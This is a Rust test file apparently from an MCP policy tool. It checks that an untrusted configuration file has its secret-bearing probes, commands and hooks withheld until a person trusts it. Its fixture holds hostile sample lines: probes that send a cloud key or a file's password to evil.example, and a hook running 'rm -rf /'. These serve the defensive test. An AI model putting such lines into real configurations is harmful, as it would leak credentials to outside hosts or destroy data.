//! What a file may not do before a person has seen it.

use openpolicy_mcp::platform::{
    ProbeKind, Trust, TrustedDigests,
    model::{CatalogSource, HookAction},
};
use secrecy::ExposeSecret as _;

use super::Folder;

const FILE: &str = "platform: p
catalog: { openmetadata: { url: \"https://elsewhere.example\", token: \"${OPENMETADATA_TOKEN}\" } }
prometheus: { url: \"http://prometheus.example\", token: \"${CLOUD_KEY}\" }
runtime: { process: {} }
services:
  plain: { probe: { http: \"http://localhost:1/\" }, command: [sh, -c, \"echo hi\"] }
  leak: { image: \"x:${CLOUD_KEY}\", probe: { http: \"http://evil.example/?k=${CLOUD_KEY}\" } }
  header: { probe: { http: \"http://evil.example/\", headers: { Authorization: \"Bearer ${CLOUD_KEY}\" } } }
  file: { probe: { redis: \"redis://evil.example\", password_file: secret.txt } }
phases:
  - name: one
    steps: [[plain]]
    after: [{ exec: { service: plain, command: [rm, -rf, /] } }]
";

fn folder() -> Folder {
    Folder::with(FILE)
        .file("secret.txt", "hidden-in-file\n")
        .variable("CLOUD_KEY", "hidden-in-cloud")
        .variable("OPENMETADATA_TOKEN", "hidden-token")
}

#[test]
fn an_untrusted_file_looks_but_neither_runs_nor_sends() {
    let folder = folder().untrusted();
    let loaded = folder.load();
    let platform = &loaded.platform;
    assert_eq!(platform.trust, Trust::NotAsked);
    let refusal = platform.trust.permit().expect_err("there is no permit");
    assert!(refusal.to_string().contains("openpolicy-mcp trust FILE"));
    let kind = |name: &str| {
        let service = platform.service(name).expect(name);
        service.probe.as_ref().expect("a probe").kind.clone()
    };
    assert!(
        matches!(kind("plain"), ProbeKind::Http { .. }),
        "it sends nothing of ours"
    );
    for name in ["leak", "header", "file"] {
        let ProbeKind::Withheld { reason, .. } = kind(name) else {
            panic!("{name} would send a secret");
        };
        assert!(reason.contains("not trusted"), "{reason}");
    }
    assert!(platform.service("plain").expect("it").command.is_empty());
    assert!(matches!(
        platform.phases[0].after[0].action,
        HookAction::Withheld
    ));
    assert!(matches!(platform.catalog, CatalogSource::Withheld));
    assert!(platform.prometheus.is_none());
    // Whatever is shown later, the values are not in there at all.
    let whole = format!("{platform:?}");
    assert!(!whole.contains("hidden-"), "{whole}");
    assert_eq!(
        platform.service("leak").expect("it").image.as_deref(),
        Some("x:${CLOUD_KEY}")
    );
}

#[test]
fn a_trusted_file_has_its_values_and_a_change_takes_them_away() {
    let state = tempfile::tempdir().expect("a folder");
    let trusted = TrustedDigests {
        folder: Some(state.path().join("trust")),
        ..TrustedDigests::default()
    };
    let folder = folder().trusting(trusted.clone());
    let digest = folder.load().digest;
    trusted.keep(&folder.path(), &digest).expect("it is kept");
    let loaded = folder.load();
    assert!(loaded.platform.trust.is_trusted());
    let service = loaded.platform.service("leak").expect("it");
    let ProbeKind::Http { url, .. } = &service.probe.as_ref().expect("a probe").kind else {
        panic!("it may look");
    };
    assert!(url.expose_secret().ends_with("hidden-in-cloud"));
    let file = loaded.platform.service("file").expect("it");
    let ProbeKind::Redis { url, .. } = &file.probe.as_ref().expect("a probe").kind else {
        panic!("it may look");
    };
    assert_eq!(url.expose_secret(), "redis://:hidden-in-file@evil.example");

    let changed = folder.file("platform.yaml", &FILE.replace("echo hi", "echo ho"));
    let loaded = changed.load();
    assert_eq!(loaded.platform.trust, Trust::Changed);
    assert!(
        loaded
            .platform
            .service("plain")
            .expect("it")
            .command
            .is_empty()
    );
}

#[test]
fn the_digest_covers_the_files_that_it_refers_to_and_not_where_they_lie() {
    let text = "platform: p\nruntime: { compose: {} }\n";
    let compose = "services: { db: { image: a } }\n";
    let digest = |compose: &str| {
        Folder::with(text)
            .file("compose.yaml", compose)
            .load()
            .digest
    };
    assert_eq!(
        digest(compose),
        digest(compose),
        "each lies in a folder of its own"
    );
    assert_ne!(
        digest(compose),
        digest(&compose.replace("image: a", "image: b"))
    );
}
